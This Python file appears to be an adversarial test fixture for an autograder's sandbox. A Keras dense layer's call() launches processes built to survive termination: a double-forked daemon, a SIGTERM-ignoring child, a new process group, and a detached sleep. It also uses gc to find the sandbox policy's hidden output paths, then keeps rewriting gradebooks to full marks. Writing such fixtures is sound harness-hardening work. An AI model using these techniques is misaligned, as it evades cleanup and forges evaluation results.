"""Hostile: in `call`, leaves processes behind in every way it can: a double-forked `setsid` daemon,
a child that ignores SIGTERM, a child that changes its process group, and `sleep 611` started with
`start_new_session`. The forked ones wait a moment (until the student's case has ended), then try to
write full marks into every gradebook.sqlite, report.json and gradebook.csv they can find (OUT is
named by the sandbox policy, which they find with `gc`), forever, marked FORGED_BY_DAEMON.

Otherwise the reference solution: whatever its cases earn, after the run no process of it may be
left and every output must equal a run without it.
"""

import gc
import os
import signal
import sqlite3
import subprocess
import time

import keras
import tensorflow as tf

MARK = "FORGED_BY_DAEMON"


def _targets():
    folders = [os.getcwd()]
    for obj in gc.get_objects():
        if type(obj).__name__ == "Policy":
            folders += list(getattr(obj, "hidden_paths", ()))
    return folders


def _forge_forever(folders):
    time.sleep(1.5)
    while True:
        for folder in folders:
            for root, _, files in os.walk(folder):
                for name in files:
                    path = os.path.join(root, name)
                    try:
                        if name == "gradebook.sqlite":
                            with sqlite3.connect(path) as db:
                                db.execute("UPDATE cases SET points = max_points, outcome = 'passed', message = ?",
                                           (MARK,))
                        elif name in ("report.json", "gradebook.csv", "results.json"):
                            with open(path, "a") as stream:
                                stream.write(MARK)
                    except Exception:  # noqa: BLE001, S112
                        continue
        time.sleep(0.2)


def _fork(body):
    try:
        if os.fork() == 0:
            try:
                body()
            finally:
                os._exit(0)
    except OSError:
        pass


def _double_fork_daemon(folders):
    def first():
        os.setsid()
        _fork(lambda: _forge_forever(folders))
    _fork(first)


def _ignores_sigterm(folders):
    def body():
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        _forge_forever(folders)
    _fork(body)


def _new_group(folders):
    def body():
        os.setpgid(0, 0)
        _forge_forever(folders)
    _fork(body)


def leave_processes():
    folders = _targets()
    _double_fork_daemon(folders)
    _ignores_sigterm(folders)
    _new_group(folders)
    try:
        subprocess.Popen(["sleep", "611"], start_new_session=True)
    except OSError:
        pass


class SimpleDense(keras.layers.Layer):
    """A dense layer: `units` outputs, each a weighted sum of the inputs plus a bias."""

    def __init__(self, units, activation=None, **kwargs):
        super().__init__(**kwargs)
        self.units = units
        self.activation = keras.activations.get(activation) if isinstance(activation, str) else activation

    def build(self, input_shape):
        input_dim = input_shape[-1]
        self.W = self.add_weight(shape=(input_dim, self.units), initializer="random_normal", name="W")
        self.b = self.add_weight(shape=(self.units,), initializer="zeros", name="b")

    def call(self, inputs):
        leave_processes()
        y = tf.tensordot(inputs, self.W, axes=1) + self.b
        if self.activation is not None:
            y = self.activation(y)
        return y
